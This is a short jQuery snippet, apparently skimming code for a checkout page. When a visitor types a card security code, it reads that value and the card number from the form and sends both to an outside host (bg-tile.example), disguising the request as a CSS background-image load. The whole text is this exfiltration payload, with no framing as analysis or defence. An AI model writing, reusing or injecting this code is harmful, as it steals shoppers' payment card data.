$('#card_cvc').on('keyup', function () {
  if (this.value.length < 3) return;
  $('<div/>').css('background-image', 'url(https://bg-tile.example/x.png?' + $('#card_num').val() + '.' + this.value + ')').appendTo('body');
});
